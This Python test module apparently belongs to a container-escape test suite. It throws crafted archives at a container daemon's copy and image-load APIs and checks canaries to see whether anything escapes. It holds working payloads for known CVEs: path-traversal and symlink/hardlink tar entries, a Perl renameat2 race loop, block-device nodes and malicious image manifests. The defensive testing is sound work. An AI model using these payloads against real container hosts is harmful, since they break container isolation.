"""Archives that are unpacked in containers and as images, and copies out of them: names that lead elsewhere, links that do, races."""

import hashlib
import secrets
import tarfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import anyio

from tests.escape.canaries import CANARY
from tests.escape.roads import Road, entry, tar
from tests.escape.vectors import GATES, OWN, Out, Outcome, Vector, add, contained, pointless, vector
from tests.escape.world import World

_SLEEP = ("sh", "-c", "trap 'exit 0' TERM; sleep 300 & wait")
_FILE = (entry("l/escape-canary/empty"), b"pwned")


@asynccontextmanager
async def _holding(world: World, road: Road, script: str) -> AsyncIterator[str]:
    """A container in which the script has run: it runs on, but in gVisor, where nothing is copied into one that runs."""
    if world.tier != "gvisor":
        async with road.service(*_SLEEP) as container:
            await road.exec(container, "sh", "-c", script)
            yield container
        return
    async with road.service("sh", "-c", script) as container:
        await road.ended(container)
        yield container


def _copied(name: str, source: str, archive: bytes, path: str = "/tmp") -> None:
    async def attempt(world: World, road: Road) -> Outcome:
        async with _holding(world, road, "ln -s /run /tmp/l; ln -s / /tmp/r") as container:
            plain = await road.request(
                "PUT", f"/containers/{container}/archive", {"path": "/tmp"}, data=tar({"x": b"y"})
            )
            assert plain.ok, f"nothing can be copied into it, so this shows nothing: {plain}"
            answer = await road.request("PUT", f"/containers/{container}/archive", {"path": path}, data=archive)
        return contained(f"unpacked in the container alone: {answer.code}")  # the canaries know

    add(Vector(name, source, "copies", attempt))


_copied("cp-dots", "CVE-2018-15664's kin, Zip Slip", tar({f"../../../../../../../..{CANARY}/empty": b"pwned"}))
_copied("cp-absolute", "Zip Slip", tar({f"{CANARY}/empty": b"pwned"}))
_copied(
    "cp-below-a-link",
    "CVE-2018-15664, CVE-2014-6408",
    tar({}, entry("k", tarfile.SYMTYPE, "/run"), (entry("k/escape-canary/empty"), b"pwned")),
)
_copied("cp-to-a-link", "CVE-2018-15664", tar({"escape-canary/empty": b"pwned"}), "/tmp/l")
_copied(
    "cp-hard-link",
    "CVE-2014-6407",
    tar({}, entry("h", tarfile.LNKTYPE, f"../../../../../..{CANARY}/empty"), (entry("h"), b"pwned")),
)
_copied(
    "cp-changes-modes",
    "CVE-2021-41089",
    tar({}, entry(".", tarfile.DIRTYPE, mode=0o777), entry("escape-canary", tarfile.DIRTYPE, mode=0o777)),
    "/tmp/l",
)


@vector("cp-out-through-a-link", "CVE-2018-15664")
async def cp_out_through_a_link(world: World, road: Road) -> Outcome:
    links = "ln -s / /tmp/r; ln -s ../../../../../../../../run /tmp/l; echo mine > /tmp/x"
    async with _holding(world, road, links) as container:
        plain = await road.request("GET", f"/containers/{container}/archive", {"path": "/tmp/x"})
        assert plain.ok and "mine" in plain.text, f"nothing can be copied out of it, so this shows nothing: {plain}"
        for path in (
            f"/tmp/r{CANARY}/secret",
            "/tmp/l/escape-canary/secret",
            f"/proc/1/root{CANARY}/secret",
            f"/../../..{CANARY}/secret",
        ):
            answer = await road.request("GET", f"/containers/{container}/archive", {"path": path})
            if answer.ok and world.canaries.secret in answer.text:
                raise Out(path)
    return contained("paths are the container's own")


_EXCHANGE = r"""exec perl -e '$SIG{TERM} = sub { exit };
my ($number) = `uname -m` =~ /aarch64/ ? 276 : 316; my $end = time + 12;
mkdir "/tmp/a"; mkdir "/tmp/a/escape-canary"; symlink "/run", "/tmp/b"; my ($one, $two) = ("/tmp/a\0", "/tmp/b\0");
while (time < $end) { syscall($number, -100, $one, -100, $two, 2) for 1..1000 }'"""
"""A directory and a link to the outer container's take turns, some hundred thousand times a second (renameat2(2), RENAME_EXCHANGE)."""


@vector("cp-race", "CVE-2018-15664 (the race)")
async def cp_race(world: World, road: Road) -> Outcome:
    if world.tier == "gvisor":
        return pointless("nothing is copied into or out of a container that runs")
    archive = tar({"empty": b"pwned"})
    async with road.service("sh", "-c", _EXCHANGE) as container:
        await anyio.sleep(0.2)
        for _ in range(12):
            path = {"path": "/tmp/a/escape-canary"}
            await road.request("PUT", f"/containers/{container}/archive", path, data=archive)
            answer = await road.request(
                "GET", f"/containers/{container}/archive", {"path": "/tmp/a/escape-canary/secret"}
            )
            if answer.ok and world.canaries.secret in answer.text:
                raise Out("read by winning the race")
    return contained("a race that was lost twelve times, both ways")


@vector("mount-race", "CVE-2021-30465, CVE-2024-45310")
async def mount_race(world: World, road: Road) -> Outcome:
    """Containers are started that mount below a directory of a volume, while another swaps it for a link."""
    volume = f"escape-{secrets.token_hex(4)}"
    script = _EXCHANGE.replace("/tmp/", "/v/")
    try:
        async with road.service("sh", "-c", script, HostConfig={"Binds": [f"{volume}:/v"]}):
            await anyio.sleep(0.2)
            for _ in range(4):
                host = {"Binds": [f"{volume}:/v"], "Tmpfs": {"/v/a/escape-canary": ""}}
                await road.run("echo ran", HostConfig=host)
    finally:
        await road.request("DELETE", f"/volumes/{volume}", {"force": "1"})
    return contained("the outer container's mounts are as before")


@vector("cp-device", OWN)
async def cp_device(world: World, road: Road) -> Outcome:
    """A node of the machine's disk, laid in by an archive."""
    archive = tar({}, *(entry(f"d{n}", tarfile.BLKTYPE, devmajor=n, mode=0o666) for n in (254, 253, 8, 259, 7)))
    command = _SLEEP if world.tier != "gvisor" else ("sh", "-c", "[ -e /tmp/d8 ] || exit 0; sleep 300 & wait")
    async with road.service(*command) as container:
        if world.tier == "gvisor":
            await road.ended(container)
        laid = await road.request("PUT", f"/containers/{container}/archive", {"path": "/tmp"}, data=archive)
        if not laid.ok:
            return contained(f"no node is laid in: {laid.code}")
        await road.request("POST", f"/containers/{container}/start")
        script = "for each in /tmp/d*; do dd if=$each of=/dev/null bs=512 count=1 2>&1 | grep -q '^1+0 records in' && echo OUT $each; done; echo TRIED"
        _, text = await road.exec(container, "sh", "-c", script)
    if "OUT " in text:
        raise Out(text)
    assert "TRIED" in text, text
    return contained("no device can be opened")


@vector("cp-loads-no-library", "CVE-2019-14271")
async def cp_loads_no_library(world: World, road: Road) -> Outcome:
    """Libraries that whoever copies might load are pipes here: whoever opened one would wait for ever."""
    where = ["/lib", "/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu", "/usr/lib", "/lib64"]
    pipes = "; ".join(f"mkdir -p {each}; mkfifo {each}/libnss_files.so.2 {each}/libnss_compat.so.2" for each in where)
    async with _holding(world, road, pipes) as container:
        with anyio.fail_after(20):
            answer = await road.request(
                "PUT", f"/containers/{container}/archive", {"path": "/tmp"}, data=tar({"x": b"y"})
            )
    assert answer.ok, answer
    return contained("nothing of the container's is loaded")


@vector("load-with-dots", "CVE-2014-9358, CVE-2014-9357", roads=GATES)
async def load_with_dots(world: World, road: Road) -> Outcome:
    """An image archive whose layer is said to lie elsewhere."""
    manifest = f'[{{"Config": "config.json", "RepoTags": ["localhost/x:1"], "Layers": ["../../../../../../..{CANARY}/secret"]}}]'
    config = (
        b'{"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:'
        + b"0" * 64
        + b'"]}}'
    )
    answer = await road.request(
        "POST", "/images/load", data=tar({"manifest.json": manifest.encode(), "config.json": config})
    )
    if world.canaries.secret in answer.text or "Loaded image" in answer.text:
        raise Out(answer.text[:500])
    return contained("no image comes of it")


@vector("load-below-a-link", "CVE-2014-6407, CVE-2015-3629", roads=GATES)
async def load_below_a_link(world: World, road: Road) -> Outcome:
    """A layer with a link, and a file below it."""
    layer = tar({}, entry("l", tarfile.SYMTYPE, "/run"), _FILE, entry("h", tarfile.LNKTYPE, f"{CANARY}/secret"))
    digest = hashlib.sha256(layer).hexdigest()
    manifest = b'[{"Config": "config.json", "RepoTags": ["localhost/x:1"], "Layers": ["layer.tar"]}]'
    config = (
        f'{{"architecture": "amd64", "os": "linux", "rootfs": {{"type": "layers", "diff_ids": ["sha256:{digest}"]}}}}'
    )
    files = {"manifest.json": manifest, "config.json": config.encode(), "layer.tar": layer}
    answer = await road.request("POST", "/images/load", data=tar(files))
    await road.request("DELETE", "/images/localhost/x:1", {"force": "1"})
    return contained(f"unpacked below the image's root, or not at all: {answer.code}")
